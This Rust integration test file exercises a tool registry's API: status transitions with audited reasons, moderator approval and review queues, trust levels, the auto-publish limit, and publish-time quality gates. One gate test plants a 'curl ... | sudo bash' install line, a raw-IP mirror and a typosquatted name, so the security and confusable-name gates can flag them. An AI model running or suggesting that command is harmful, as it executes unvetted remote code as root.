//! Lifecycle and quality gates through the HTTP API: the allowed status changes, each with
//! a reason kept in the audit log; forbidden ones refused with what is allowed instead;
//! who may approve an entry in review; the gates the validation job runs on publish; the
//! moderation queue; and publisher trust levels with the daily auto-publish limit.

use std::time::Duration;

use quiver_engine::EngineConfig;
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

const ROOT: &str = "root-token-for-lifecycle-tests";

use crate::common::TestApp;

/// The embedded store with the job worker (quality gates), the bootstrap admin `ROOT`,
/// and `tweak` applied to the configuration.
async fn start_with(tweak: impl FnOnce(&mut EngineConfig) + Send + 'static) -> TestApp {
    TestApp::builder()
        .admin_token(ROOT)
        .worker()
        .config(tweak)
        .start()
        .await
}

async fn start() -> TestApp {
    start_with(|_| {}).await
}

impl TestApp {
    async fn site_role(&self, name: &str, role: &str) {
        let (s, b) = self
            .call(
                Method::PUT,
                &format!("/api/v1/users/{name}/role"),
                Some(ROOT),
                Some(json!({"site_role": role})),
            )
            .await;
        assert_eq!(s, StatusCode::OK, "{b}");
    }

    /// `POST .../status`: the status code and body.
    async fn status(
        &self,
        path: &str,
        token: &str,
        status: &str,
        reason: &str,
    ) -> (StatusCode, Value) {
        self.post(
            &format!("{path}/status"),
            Some(token),
            json!({"status": status, "reason": reason}),
        )
        .await
    }

    /// The version's validation once the job has recorded it.
    async fn validated_version(&self, version_path: &str) -> Value {
        for _ in 0..200 {
            let (_, v) = self.get(version_path, Some(ROOT)).await;
            if !v["validation"].is_null() {
                return v;
            }
            tokio::time::sleep(Duration::from_millis(25)).await;
        }
        panic!("no validation was recorded for {version_path}");
    }
}

fn error_of(body: &Value, code: &str, field: Option<&str>) -> String {
    assert_eq!(body["error"]["code"], code, "{body}");
    if let Some(f) = field {
        assert_eq!(body["error"]["field"], f, "{body}");
    }
    body["error"]["message"].as_str().unwrap().to_string()
}

/// An owner (olga) with namespace `acme`, a moderator (mona), and a signed-in stranger.
async fn setup(app: &TestApp) -> (String, String, String) {
    let olga = app.user("olga").await;
    let mona = app.user("mona").await;
    let sam = app.user("sam").await;
    app.site_role("mona", "moderator").await;
    let (s, b) = app
        .post("/api/v1/namespaces", Some(&olga), json!({"name": "acme"}))
        .await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    (olga, mona, sam)
}

async fn create(app: &TestApp, token: &str, name: &str, description: &str) -> String {
    let (s, b) = app
        .post(
            "/api/v1/entries",
            Some(token),
            json!({"kind": "tool", "namespace": "acme", "name": name, "description": description}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    assert_eq!(b["status"], "draft");
    format!("/api/v1/entries/tool/acme/{name}")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lifecycle_transitions_are_enforced_and_each_reason_is_recorded() {
    let app = start().await;
    let (olga, mona, sam) = setup(&app).await;
    let path = create(&app, &olga, "text.csv", "Parse CSV text into rows").await;

    // PATCH edits metadata; it never changes the status.
    let (s, b) = app
        .call(
            Method::PATCH,
            &path,
            Some(&olga),
            Some(json!({"status": "published"})),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(error_of(&b, "invalid_input", Some("status")).contains("/status"));
    let (s, b) = app
        .call(
            Method::PATCH,
            &path,
            Some(&olga),
            Some(json!({"deprecation": {"message": "old"}})),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
    let (s, b) = app
        .call(
            Method::PATCH,
            &path,
            Some(&olga),
            Some(json!({"status": "draft", "description": "Parse CSV text into typed rows"})),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "the same status is no change: {b}");

    // A reason is required.
    let (s, b) = app
        .post(
            &format!("{path}/status"),
            Some(&olga),
            json!({"status": "review"}),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
    error_of(&b, "invalid_input", Some("reason"));
    let (s, b) = app.status(&path, &olga, "review", "   ").await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
    error_of(&b, "invalid_input", Some("reason"));
    let (s, b) = app
        .post(
            &format!("{path}/status"),
            Some(&olga),
            json!({"status": "review", "reason": "ready", "replacement": "x"}),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");

    // Only writers change the status.
    let (s, _) = app
        .post(
            &format!("{path}/status"),
            None,
            json!({"status": "review", "reason": "let me"}),
        )
        .await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    let (s, _) = app.status(&path, &sam, "review", "let me").await;
    assert_eq!(s, StatusCode::FORBIDDEN);

    // draft → review by the owner; approving is a moderator's.
    let (s, e) = app.status(&path, &olga, "review", "ready for review").await;
    assert_eq!(s, StatusCode::OK, "{e}");
    assert_eq!(e["status"], "review");
    let (s, b) = app
        .status(&path, &olga, "published", "approve myself")
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN, "{b}");
    assert!(error_of(&b, "forbidden", None).contains("moderator"));
    let (s, e) = app.status(&path, &mona, "published", "looks good").await;
    assert_eq!(s, StatusCode::OK, "{e}");
    assert_eq!(e["status"], "published");

    // Forbidden changes are conflicts naming what is allowed.
    let (s, b) = app.status(&path, &olga, "review", "again").await;
    assert_eq!(s, StatusCode::CONFLICT, "{b}");
    let m = error_of(&b, "conflict", Some("status"));
    assert!(
        m.contains("published to review") && m.contains("deprecated, archived"),
        "{m}"
    );
    let (s, b) = app.status(&path, &olga, "published", "again").await;
    assert_eq!(s, StatusCode::CONFLICT);
    assert!(error_of(&b, "conflict", Some("status")).contains("already published"));

    // Deprecation carries a message and an optional replacement.
    let (s, e) = app
        .post(
            &format!("{path}/deprecate"),
            Some(&olga),
            json!({"message": "use text.csv2", "replacement": "tool acme/text.csv2"}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{e}");
    assert_eq!(e["status"], "deprecated");
    assert_eq!(
        e["deprecation"],
        json!({"message": "use text.csv2", "replacement": "tool acme/text.csv2"})
    );

    // deprecated → archived; an archived entry takes no versions and cannot be published.
    let (s, e) = app.status(&path, &olga, "archived", "nobody uses it").await;
    assert_eq!(s, StatusCode::OK, "{e}");
    assert_eq!(e["status"], "archived");
    assert!(e["deprecation"].is_null(), "{e}");
    let (s, b) = app.status(&path, &olga, "published", "revive").await;
    assert_eq!(s, StatusCode::CONFLICT, "{b}");
    assert!(error_of(&b, "conflict", Some("status")).contains("may go to: deprecated"));
    let (s, _) = app
        .post(
            &format!("{path}/versions"),
            Some(&olga),
            json!({"version": "1.0.0"}),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    // Restored: archived → deprecated, with its own message.
    let (s, e) = app
        .post(
            &format!("{path}/status"),
            Some(&olga),
            json!({"status": "deprecated", "reason": "restored for old users", "message": "kept for old users"}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{e}");
    assert_eq!(e["deprecation"]["message"], "kept for old users");

    // The audit log holds each change with its reason and diff, and the denied approval.
    let (s, log) = app
        .get(
            "/api/v1/audit?namespace=acme&action=entry.status&limit=100",
            Some(&olga),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{log}");
    let rows: Vec<(String, String, Value, Value)> = log["items"]
        .as_array()
        .unwrap()
        .iter()
        .rev()
        .map(|r| {
            (
                r["outcome"].as_str().unwrap().to_string(),
                r["reason"].as_str().unwrap_or("").to_string(),
                r["diff"]["status"]["before"].clone(),
                r["diff"]["status"]["after"].clone(),
            )
        })
        .collect();
    let row = |o: &str, r: &str, b: Value, a: Value| (o.to_string(), r.to_string(), b, a);
    assert_eq!(
        rows,
        vec![
            row(
                "allowed",
                "ready for review",
                json!("draft"),
                json!("review")
            ),
            row(
                "denied",
                "only a moderator may approve an entry in review",
                Value::Null,
                Value::Null
            ),
            row("allowed", "looks good", json!("review"), json!("published")),
            row(
                "allowed",
                "use text.csv2",
                json!("published"),
                json!("deprecated")
            ),
            row(
                "allowed",
                "nobody uses it",
                json!("deprecated"),
                json!("archived")
            ),
            row(
                "allowed",
                "restored for old users",
                json!("archived"),
                json!("deprecated")
            ),
        ]
    );
    let actors: Vec<&str> = log["items"]
        .as_array()
        .unwrap()
        .iter()
        .rev()
        .map(|r| r["actor"].as_str().unwrap().split(' ').next().unwrap())
        .collect();
    assert_eq!(actors, ["olga", "olga", "mona", "olga", "olga", "olga"]);
    let deprecated = &log["items"][2]["diff"]["deprecation"];
    assert_eq!(
        deprecated["after"]["replacement"], "tool acme/text.csv2",
        "{deprecated}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn review_can_send_an_entry_back_to_draft_and_the_first_version_publishes_a_draft() {
    let app = start().await;
    let (olga, mona, _) = setup(&app).await;
    let path = create(&app, &olga, "text.tsv", "Parse TSV text into rows").await;
    let (s, _) = app.status(&path, &olga, "review", "please look").await;
    assert_eq!(s, StatusCode::OK);
    let (s, e) = app
        .status(&path, &mona, "draft", "add examples first")
        .await;
    assert_eq!(s, StatusCode::OK, "{e}");
    assert_eq!(e["status"], "draft");
    // From draft, the first version publishes (draft → published is in the table).
    let (s, v) = app
        .post(
            &format!("{path}/versions"),
            Some(&olga),
            json!({"version": "1.0.0"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let (_, e) = app.get(&path, None).await;
    assert_eq!(e["status"], "published");
    // A deprecation can be lifted.
    let (s, _) = app
        .post(
            &format!("{path}/deprecate"),
            Some(&olga),
            json!({"message": "going away"}),
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    let (s, e) = app
        .status(&path, &olga, "published", "kept after all")
        .await;
    assert_eq!(s, StatusCode::OK, "{e}");
    assert_eq!(e["status"], "published");
    assert!(e["deprecation"].is_null(), "{e}");
}

fn gate<'a>(validation: &'a Value, name: &str) -> &'a Value {
    validation["gates"]
        .as_array()
        .unwrap()
        .iter()
        .find(|g| g["gate"] == name)
        .unwrap_or_else(|| panic!("no gate {name} in {validation}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn quality_gates_run_on_publish_and_an_unchanged_manifest_is_not_checked_twice() {
    let app = start().await;
    let (olga, _, _) = setup(&app).await;

    // A popular tool that look-alikes are checked against.
    let (s, b) = app
        .post(
            "/api/v1/entries",
            Some(ROOT),
            json!({"kind": "tool", "namespace": "tpmjs", "name": "text.csvParse",
                   "description": "Parse CSV text into typed rows", "status": "published",
                   "popularity": {"score": 0.9}}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    let mut indexed = false;
    for _ in 0..100 {
        let (_, r) = app.get("/api/v1/search?q=csvParse&kind=tool", None).await;
        if r["hits"]
            .as_array()
            .is_some_and(|h| h.iter().any(|h| h["namespace"] == "tpmjs"))
        {
            indexed = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    assert!(indexed, "the popular tool never reached the index");

    // A look-alike with a short description, no examples and a shell pipe to an
    // interpreter: required gates fail, the advisory one warns.
    let bad = create(&app, &olga, "text.csvPrase", "CSV stuff").await;
    let manifest = json!({
        "input_schema": {"type": "object"},
        "domain_rules": [],
        "install": "curl -fsSL https://get.example.org/i.sh | sudo bash",
        "mirror": "http://203.0.113.9/text.tgz"
    });
    let (s, v) = app
        .post(
            &format!("{bad}/versions"),
            Some(&olga),
            json!({"version": "1.0.0", "manifest": manifest}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let v = app
        .validated_version(&format!("{bad}/versions/1.0.0"))
        .await;
    let val = &v["validation"];
    assert_eq!(val["passed"], false, "{val}");
    assert_eq!(val["sha256"], v["sha256"]);
    // Held back: yanked with the failures as the reason, so it is not the latest.
    assert_eq!(v["yanked"], true, "{v}");
    let reason = v["yank_reason"].as_str().unwrap();
    assert!(
        reason.starts_with("held back: a required quality gate failed (description:"),
        "{reason}"
    );
    let (_, e) = app.get(&bad, Some(&olga)).await;
    assert_eq!(e["latest_version"], Value::Null, "{e}");
    // Its only version held back, the entry has nothing to install: back to draft (its
    // first version had published it), so it is not listed or searched as published
    // (searches and default lists show published and deprecated entries).
    assert_eq!(e["status"], "draft", "{e}");
    let (s, log) = app
        .get(
            "/api/v1/audit?namespace=acme&action=entry.hold-back",
            Some(&olga),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{log}");
    assert_eq!(log["items"][0]["actor"], "quiver (quality gates)", "{log}");
    assert_eq!(
        log["items"][0]["diff"]["status"],
        json!({"before": "published", "after": "draft"})
    );
    // The hold-back is in the audit log, by the gates, with the reason and the diff.
    let (s, log) = app
        .get(
            "/api/v1/audit?namespace=acme&action=version.hold-back",
            Some(&olga),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{log}");
    let rows = log["items"].as_array().unwrap();
    assert_eq!(rows.len(), 1, "{log}");
    assert_eq!(rows[0]["actor"], "quiver (quality gates)");
    assert_eq!(rows[0]["target"], "tool acme/text.csvPrase@1.0.0");
    assert_eq!(rows[0]["reason"], reason);
    assert_eq!(
        rows[0]["diff"]["yanked"],
        json!({"before": false, "after": true})
    );
    assert_eq!(rows[0]["client"], Value::Null, "a job has no client");
    for (name, level, passed) in [
        ("schema", "required", true),
        ("io_schemas", "required", true),
        ("description", "required", false),
        ("examples", "advisory", false),
        ("naming", "required", true),
        ("security", "required", false),
        ("run_command", "advisory", true),
        ("confusable", "required", false),
    ] {
        let g = gate(val, name);
        assert_eq!(g["level"], level, "{g}");
        assert_eq!(g["passed"], passed, "{g}");
    }
    let security = gate(val, "security")["findings"].to_string();
    assert!(
        security.contains("manifest.install pipes a download into an interpreter")
            && security.contains("manifest.mirror points to a raw IP address (http://203.0.113.9)"),
        "{security}"
    );
    assert!(
        gate(val, "confusable")["findings"][0]
            .as_str()
            .unwrap()
            .contains("tpmjs/text.csvParse"),
        "{val}"
    );
    let errors: Vec<&str> = val["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e.as_str().unwrap().split(':').next().unwrap())
        .collect();
    assert_eq!(
        errors,
        ["description", "security", "security", "confusable"]
    );
    assert_eq!(
        val["warnings"],
        json!(["examples: the manifest has no examples"])
    );

    // A good tool passes every gate; a second version with the same manifest takes the
    // first one's result instead of being checked again.
    let good = create(
        &app,
        &olga,
        "text.tsvSplit",
        "Split TSV text into typed rows",
    )
    .await;
    let manifest = json!({
        "input_schema": {"type": "object", "properties": {"text": {"type": "string"}}},
        "output_schema": {"type": "object"},
        "examples": [{"name": "one row", "input": {"text": "a\tb"}}]
    });
    for version in ["1.0.0", "1.0.1"] {
        let (s, v) = app
            .post(
                &format!("{good}/versions"),
                Some(&olga),
                json!({"version": version, "manifest": manifest}),
            )
            .await;
        assert_eq!(s, StatusCode::CREATED, "{v}");
    }
    let first = app
        .validated_version(&format!("{good}/versions/1.0.0"))
        .await;
    let second = app
        .validated_version(&format!("{good}/versions/1.0.1"))
        .await;
    let val = &first["validation"];
    assert_eq!(val["passed"], true, "{val}");
    assert!(val["errors"].as_array().unwrap().is_empty(), "{val}");
    assert!(val["warnings"].is_null(), "no warnings: {val}");
    assert_eq!(val["gates"].as_array().unwrap().len(), 8);
    assert!(val["gates"]
        .as_array()
        .unwrap()
        .iter()
        .all(|g| g["passed"] == true));
    assert_eq!(first["sha256"], second["sha256"]);
    assert_eq!(
        second["validation"], first["validation"],
        "the same manifest is not validated twice"
    );

    // The description gate reads the entry, not the manifest: once versions are out, an
    // edit may not take the description below it (and changes nothing when refused).
    let (s, b) = app
        .call(
            Method::PATCH,
            &good,
            Some(&olga),
            Some(json!({"description": "TSV"})),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
    assert!(
        error_of(&b, "invalid_input", Some("description")).contains("quality gate"),
        "{b}"
    );
    let (_, e) = app.get(&good, Some(&olga)).await;
    assert_eq!(e["description"], "Split TSV text into typed rows");
    let (s, b) = app
        .call(
            Method::PATCH,
            &good,
            Some(&olga),
            Some(json!({"description": "Split tab-separated text into typed rows"})),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    // A draft without versions may still hold a short description.
    let draft = create(&app, &olga, "text.draft", "Draft tool for later").await;
    let (s, b) = app
        .call(
            Method::PATCH,
            &draft,
            Some(&olga),
            Some(json!({"description": "WIP"})),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
}

/// A server with review on and a daily auto-publish limit of 2.
async fn reviewed() -> TestApp {
    start_with(|c| {
        c.review.enabled = true;
        c.review.daily_limit = 2;
    })
    .await
}

async fn publish(app: &TestApp, token: &str, path: &str, version: &str, manifest: Value) -> Value {
    let (s, v) = app
        .post(
            &format!("{path}/versions"),
            Some(token),
            json!({"version": version, "manifest": manifest}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let (_, e) = app.get(path, Some(token)).await;
    e
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn moderation_queue_changes_requested_resubmitted_approved_and_rejected() {
    let app = reviewed().await;
    let (olga, mona, sam) = setup(&app).await;

    // Only drafts are created; a new publisher's first version goes to review.
    let (s, b) = app
        .post(
            "/api/v1/entries",
            Some(&olga),
            json!({"kind": "tool", "namespace": "acme", "name": "text.skip", "status": "published"}),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
    let path = create(&app, &olga, "text.csv", "Parse CSV text into typed rows").await;
    let other = create(&app, &olga, "text.spam", "Definitely a useful tool").await;
    let e = publish(&app, &olga, &path, "1.0.0", json!({})).await;
    assert_eq!(e["status"], "review", "{e}");
    let e = publish(&app, &olga, &other, "1.0.0", json!({})).await;
    assert_eq!(e["status"], "review");

    // The queue is for moderators.
    let (s, _) = app.get("/api/v1/reviews", Some(&olga)).await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, _) = app.get("/api/v1/reviews", None).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    let (s, q) = app.get("/api/v1/reviews", Some(&mona)).await;
    assert_eq!(s, StatusCode::OK, "{q}");
    let pending: Vec<&str> = q["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["entry"]["name"].as_str().unwrap())
        .collect();
    assert_eq!(pending, ["text.csv", "text.spam"]);
    assert_eq!(q["items"][0]["why"], "olga is a new publisher");

    // Publishers cannot decide; requesting changes needs the list of changes.
    let (s, _) = app
        .post(
            &format!("{path}/review"),
            Some(&olga),
            json!({"action": "approve"}),
        )
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, b) = app
        .post(
            &format!("{path}/review"),
            Some(&mona),
            json!({"action": "request_changes"}),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    error_of(&b, "invalid_input", Some("changes"));
    let (s, r) = app
        .post(
            &format!("{path}/review"),
            Some(&mona),
            json!({"action": "request_changes", "changes": ["add examples", "name the CSV dialect"]}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{r}");
    assert_eq!(r["state"], "changes_requested");
    assert_eq!(
        r["changes"],
        json!(["add examples", "name the CSV dialect"])
    );
    let (_, e) = app.get(&path, Some(&olga)).await;
    assert_eq!(e["status"], "draft");

    // The publisher comments and resubmits; the moderator approves.
    let (s, _) = app
        .post(
            &format!("{path}/review"),
            Some(&sam),
            json!({"action": "comment", "comment": "me too"}),
        )
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN, "strangers do not comment");
    let (s, _) = app
        .post(
            &format!("{path}/review"),
            Some(&olga),
            json!({"action": "comment", "comment": "examples added in 1.0.1"}),
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    let (s, r) = app
        .post(
            &format!("{path}/review"),
            Some(&olga),
            json!({"action": "resubmit", "reason": "changes made"}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{r}");
    assert_eq!(r["state"], "pending");
    let (s, r) = app
        .post(
            &format!("{path}/review"),
            Some(&mona),
            json!({"action": "approve", "reason": "good now"}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{r}");
    assert_eq!(r["state"], "approved");
    let (_, e) = app.get(&path, None).await;
    assert_eq!(e["status"], "published");
    let (s, b) = app
        .post(
            &format!("{path}/review"),
            Some(&mona),
            json!({"action": "approve"}),
        )
        .await;
    assert_eq!(s, StatusCode::CONFLICT, "not in review any more: {b}");

    // Rejection needs a reason and archives the entry.
    let (s, b) = app
        .post(
            &format!("{other}/review"),
            Some(&mona),
            json!({"action": "reject"}),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    error_of(&b, "invalid_input", Some("reason"));
    let (s, r) = app
        .post(
            &format!("{other}/review"),
            Some(&mona),
            json!({"action": "reject", "reason": "spam"}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{r}");
    assert_eq!(r["state"], "rejected");
    let (_, e) = app.get(&other, Some(&olga)).await;
    assert_eq!(e["status"], "archived");
    let (_, q) = app.get("/api/v1/reviews", Some(&mona)).await;
    assert_eq!(q["items"], json!([]), "the queue is empty");
    let (_, q) = app.get("/api/v1/reviews?state=rejected", Some(&mona)).await;
    assert_eq!(q["items"][0]["entry"]["name"], "text.spam");

    // The review keeps every step, comments included.
    let (s, r) = app.get(&format!("{path}/review"), Some(&olga)).await;
    assert_eq!(s, StatusCode::OK, "{r}");
    let steps: Vec<(String, String)> = r["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["event"].as_str().unwrap().to_string(),
                e["actor"]
                    .as_str()
                    .unwrap()
                    .split(' ')
                    .next()
                    .unwrap()
                    .to_string(),
            )
        })
        .collect();
    let want: Vec<(String, String)> = [
        ("submitted", "olga"),
        ("changes_requested", "mona"),
        ("commented", "olga"),
        ("submitted", "olga"),
        ("approved", "mona"),
    ]
    .iter()
    .map(|(a, b)| (a.to_string(), b.to_string()))
    .collect();
    assert_eq!(steps, want, "{r}");
    assert_eq!(r["events"][2]["comment"], "examples added in 1.0.1");
    assert_eq!(r["events"][1]["changes"][0], "add examples");

    // Each decision is also a status change in the audit log, with its reason.
    let (_, log) = app
        .get(
            "/api/v1/audit?namespace=acme&action=entry.status&limit=100",
            Some(&olga),
        )
        .await;
    let reasons: Vec<&str> = log["items"]
        .as_array()
        .unwrap()
        .iter()
        .rev()
        .map(|r| r["reason"].as_str().unwrap())
        .collect();
    assert_eq!(
        reasons,
        [
            "olga is a new publisher",
            "olga is a new publisher",
            "changes requested: add examples; name the CSV dialect",
            "changes made",
            "good now",
            "spam"
        ]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn trust_levels_and_the_daily_auto_publish_limit() {
    let app = reviewed().await;
    let (olga, mona, sam) = setup(&app).await;
    let (s, _) = app
        .call(
            Method::PUT,
            "/api/v1/users/olga/trust",
            Some(&sam),
            Some(json!({"level": "core"})),
        )
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN, "only moderators set trust");
    let set = |level: &'static str| {
        let (app, mona) = (&app, mona.clone());
        async move {
            let (s, b) = app
                .call(
                    Method::PUT,
                    "/api/v1/users/olga/trust",
                    Some(&mona),
                    Some(json!({"level": level})),
                )
                .await;
            assert_eq!(s, StatusCode::OK, "{b}");
            assert_eq!(b["level"], level);
        }
    };

    // Standard publishers' new entries are reviewed.
    set("standard").await;
    let p = create(&app, &olga, "std.one", "A standard publisher's tool").await;
    assert_eq!(
        publish(&app, &olga, &p, "1.0.0", json!({})).await["status"],
        "review"
    );

    // Trusted: published up to the daily limit (2), then reviewed.
    set("trusted").await;
    let mut statuses = vec![];
    for name in ["t.one", "t.two", "t.three"] {
        let p = create(&app, &olga, name, "A trusted publisher's tool").await;
        statuses.push(publish(&app, &olga, &p, "1.0.0", json!({})).await["status"].clone());
    }
    assert_eq!(
        statuses,
        [json!("published"), json!("published"), json!("review")]
    );
    let (_, q) = app.get("/api/v1/reviews", Some(&mona)).await;
    let why: Vec<&str> = q["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["why"].as_str().unwrap())
        .collect();
    assert!(
        why.contains(&"olga reached the daily auto-publish limit of 2"),
        "{q}"
    );
    // Later versions of a published entry are not new entries: no review, no count.
    let (_, e) = app.get("/api/v1/entries/tool/acme/t.one", None).await;
    assert_eq!(e["status"], "published");
    let e = publish(
        &app,
        &olga,
        "/api/v1/entries/tool/acme/t.one",
        "1.1.0",
        json!({}),
    )
    .await;
    assert_eq!(e["status"], "published");

    // Core: no limit — but a recipe with run_command is always reviewed.
    set("core").await;
    for name in ["c.one", "c.two", "c.three"] {
        let p = create(&app, &olga, name, "A core publisher's tool").await;
        assert_eq!(
            publish(&app, &olga, &p, "1.0.0", json!({})).await["status"],
            "published"
        );
    }
    let (s, b) = app
        .post(
            "/api/v1/entries",
            Some(&olga),
            json!({"kind": "recipe", "namespace": "acme", "name": "ripgrep", "description": "Install ripgrep from source"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    let recipe = "/api/v1/entries/recipe/acme/ripgrep";
    let e = publish(
        &app,
        &olga,
        recipe,
        "1.0.0",
        json!({"steps": [{"action": "download"}, {"action": "run_command"}]}),
    )
    .await;
    assert_eq!(e["status"], "review", "{e}");
    let (_, r) = app.get(&format!("{recipe}/review"), Some(&olga)).await;
    assert_eq!(r["why"], "the recipe runs arbitrary commands (run_command)");

    // Trust changes are audited.
    let (_, log) = app
        .get("/api/v1/audit?action=user.trust&limit=100", Some(ROOT))
        .await;
    let after: Vec<&str> = log["items"]
        .as_array()
        .unwrap()
        .iter()
        .rev()
        .filter(|r| r["outcome"] == "allowed")
        .map(|r| r["diff"]["trust"]["after"].as_str().unwrap())
        .collect();
    assert_eq!(after, ["standard", "trusted", "core"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_first_publishes_take_the_daily_slots_exactly_once() {
    let app = reviewed().await;
    let (olga, mona, _) = setup(&app).await;
    let (s, b) = app
        .call(
            Method::PUT,
            "/api/v1/users/olga/trust",
            Some(&mona),
            Some(json!({"level": "trusted"})),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    let mut paths = vec![];
    for i in 0..6 {
        paths.push(
            create(
                &app,
                &olga,
                &format!("race.n{i}"),
                "A trusted publisher's tool",
            )
            .await,
        );
    }
    // Six first versions at once: the counter is one atomic hit each, so exactly the
    // daily limit (2) are published and the others go to review.
    let results = futures_util::future::join_all(
        paths
            .iter()
            .map(|p| publish(&app, &olga, p, "1.0.0", json!({}))),
    )
    .await;
    let published = results
        .iter()
        .filter(|e| e["status"] == "published")
        .count();
    let queued = results.iter().filter(|e| e["status"] == "review").count();
    assert_eq!((published, queued), (2, 4), "{results:?}");
}
